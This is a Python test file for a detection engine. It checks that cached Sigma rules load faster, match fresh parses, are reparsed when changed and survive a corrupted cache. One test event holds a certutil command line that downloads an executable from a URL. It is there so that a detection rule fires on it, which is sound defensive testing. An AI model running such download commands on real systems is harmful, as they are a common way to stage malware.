"""The compiled-rule cache: same rules, much faster, never stale."""

from __future__ import annotations

import os
import time
from pathlib import Path

from stockade.detection import DetectionEngine, load_rule_paths

SIGMA = Path(__file__).resolve().parents[3] / "shared" / "data" / "sigma"
RULES = SIGMA / "rules" / "windows" / "process_creation"

RULE = """title: Evil {n}
id: 7d0d2a4c-0000-4000-8000-00000000000{n}
logsource: {{product: windows, category: process_creation}}
detection:
    sel:
        CommandLine|contains: 'evil{n}'
    condition: sel
"""


def summary(rule_set):  # type: ignore[no-untyped-def]
    return [(r.info, r.literals, r.required_event_ids) for r in rule_set.rules], rule_set.problems


def test_cached_load_gives_the_same_rules_and_is_faster(tmp_path: Path) -> None:
    started = time.perf_counter()
    fresh = load_rule_paths([RULES], cache_dir=tmp_path)
    parsing = time.perf_counter() - started
    started = time.perf_counter()
    cached = load_rule_paths([RULES], cache_dir=tmp_path)
    from_cache = time.perf_counter() - started

    assert summary(cached) == summary(fresh)
    assert from_cache < parsing / 3
    event = {
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe",
    }
    assert DetectionEngine(cached.rules).match(event) == DetectionEngine(fresh.rules).match(event)
    assert DetectionEngine(cached.rules).match(event)


def test_a_changed_file_is_parsed_again(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "a.yml").write_text(RULE.format(n=1), "utf-8")
    cache = tmp_path / "cache"
    assert [r.info.title for r in load_rule_paths([rules], cache_dir=cache).rules] == ["Evil 1"]

    (rules / "a.yml").write_text(RULE.format(n=2), "utf-8")
    os.utime(rules / "a.yml", ns=(1, 1))  # even with an old time: the size/time pair changed
    (rules / "b.yml").write_text(RULE.format(n=3), "utf-8")

    titles = [r.info.title for r in load_rule_paths([rules], cache_dir=cache).rules]
    assert titles == ["Evil 2", "Evil 3"]


def test_a_damaged_cache_is_ignored(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "a.yml").write_text(RULE.format(n=1), "utf-8")
    cache = tmp_path / "cache"
    load_rule_paths([rules], cache_dir=cache)
    for stored in cache.iterdir():
        stored.write_bytes(b"not a pickle")

    assert [r.info.title for r in load_rule_paths([rules], cache_dir=cache).rules] == ["Evil 1"]
